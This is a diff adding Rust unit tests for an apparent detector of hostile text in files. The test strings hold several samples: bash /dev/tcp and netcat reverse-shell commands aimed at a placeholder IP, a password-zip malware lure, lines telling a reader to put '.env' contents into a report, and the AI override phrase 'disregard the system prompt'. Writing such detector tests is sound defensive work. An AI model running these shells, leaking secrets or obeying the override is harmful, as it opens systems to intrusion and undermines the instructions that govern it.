@@ -710,6 +710,52 @@ mod tests {
     }
 
     #[test]
+    fn a_match_is_quoted_only_inside_one_quote() {
+        let l = "download `VoiceCore.zip` (password: `vc`). Extract it";
+        let at = l.find("zip").unwrap();
+        assert!(!super::is_quoted_match(l, at, l.find("vc`").unwrap() + 2));
+        let q = r#"Lures say "download the zip, password 1234" to get past scanners."#;
+        let at = q.find("download").unwrap();
+        assert!(super::is_quoted_match(q, at, q.find("1234").unwrap() + 4));
+    }
+
+    #[test]
+    fn negation_carries_over_a_soft_wrap() {
+        let c = "Redact tokens before pasting them. Never include\nthe contents of `.env` in a report.\n";
+        let start = c.find("the contents").unwrap();
+        let line = &c[start..c.len() - 1];
+        assert!(super::negated_from_before(c, start, line, 4));
+        let list = "Never do this.\n- include the contents of `.env` in the report\n";
+        let start = list.find("- include").unwrap();
+        let line = &list[start..list.len() - 1];
+        assert!(!super::negated_from_before(list, start, line, 10));
+        let done = "Do not stop. Always\ninclude the contents of `.env`.\n";
+        let start = done.find("include").unwrap();
+        assert!(!super::negated_from_before(
+            done,
+            start,
+            &done[start..done.len() - 1],
+            8
+        ));
+    }
+
+    #[test]
+    fn raw_string_entries_are_detector_patterns() {
+        assert!(super::is_pattern_literal(
+            r#"    r"disregard the system prompt","#
+        ));
+        assert!(super::is_pattern_literal(
+            r#"    "bash-dev-tcp": r"bash -i >& /dev/tcp/","#
+        ));
+        assert!(!super::is_pattern_literal(
+            r#"    CMD = r"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1""#
+        ));
+        assert!(!super::is_pattern_literal(
+            r#"    os.system(r"bash -i >& /dev/tcp/x/1"),"#
+        ));
+    }
+
+    #[test]
     fn attack_strings_held_as_test_data() {
         let l = r#"    "nc-exec": "nc 192.0.2.1 4444 -e /bin/sh","#;
         let at = l.find("nc 192").unwrap();
